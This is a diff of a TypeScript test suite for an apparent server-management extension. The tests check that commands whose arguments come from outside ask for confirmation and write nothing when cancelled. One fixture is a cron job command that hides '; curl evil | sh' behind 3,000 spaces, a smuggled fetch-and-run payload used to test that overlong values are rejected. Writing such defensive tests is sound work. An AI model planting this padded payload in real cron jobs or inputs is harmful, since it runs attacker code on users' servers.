@@ -52,12 +52,6 @@ describe('A command with arguments from outside', () => {
     return runCommand(world.context(prompts), command, [target], given);
   }
 
-  async function writes(): Promise<string[]> {
-    return (await world.probe.requests())
-      .filter(({ method }) => method !== 'GET')
-      .map(({ method, path }) => `${method} ${path}`);
-  }
-
   afterEach(() => world.close());
 
   describe('in production', () => {
@@ -72,7 +66,7 @@ describe('A command with arguments from outside', () => {
       it(`asks with every value passed, and sends nothing if dismissed: ${command}`, async () => {
         const outcome = await run(command, target, given);
         assert.equal(outcome.status, 'cancelled');
-        assert.deepEqual(await writes(), []);
+        assert.deepEqual(await world.probe.writes(), []);
         const [asked, ...others] = prompts.confirmations;
         assert.deepEqual(others, []);
         const lines = asked?.detail.split('\n') ?? [];
@@ -94,7 +88,7 @@ describe('A command with arguments from outside', () => {
       it(`asks once before a command that has no question of its own: ${command}`, async () => {
         const outcome = await run(command, target);
         assert.equal(outcome.status, 'cancelled');
-        assert.deepEqual(await writes(), []);
+        assert.deepEqual(await world.probe.writes(), []);
         assert.equal(prompts.confirmations.length, 1);
         assert.ok(!prompts.confirmations[0]?.detail.includes(passed));
       });
@@ -120,7 +114,7 @@ describe('A command with arguments from outside', () => {
     it('asks before restarting a service, even if another extension passed the resource', async () => {
       const outcome = await run('serverManagement.restartService', nginx);
       assert.equal(outcome.status, 'cancelled');
-      assert.deepEqual(await writes(), []);
+      assert.deepEqual(await world.probe.writes(), []);
       assert.equal(prompts.confirmations.length, 1);
     });
 
@@ -184,7 +178,7 @@ describe('A command with arguments from outside', () => {
     it('refuses values that are too long to show in full', async () => {
       const given = { ...rootJob, command: `true ${' '.repeat(3_000)}; curl evil | sh` };
       await assert.rejects(run('serverManagement.createCronJob', jobs, given), /too long/);
-      assert.deepEqual(await writes(), []);
+      assert.deepEqual(await world.probe.writes(), []);
     });
   });
 
@@ -208,7 +202,7 @@ describe('A command with arguments from outside', () => {
       it(`asks before it changes access or deletes something: ${command} on a ${target.kind}`, async () => {
         const outcome = await run(command, target, given);
         assert.equal(outcome.status, 'cancelled');
-        assert.deepEqual(await writes(), []);
+        assert.deepEqual(await world.probe.writes(), []);
         assert.equal(prompts.confirmations.length, 1);
       });
     }
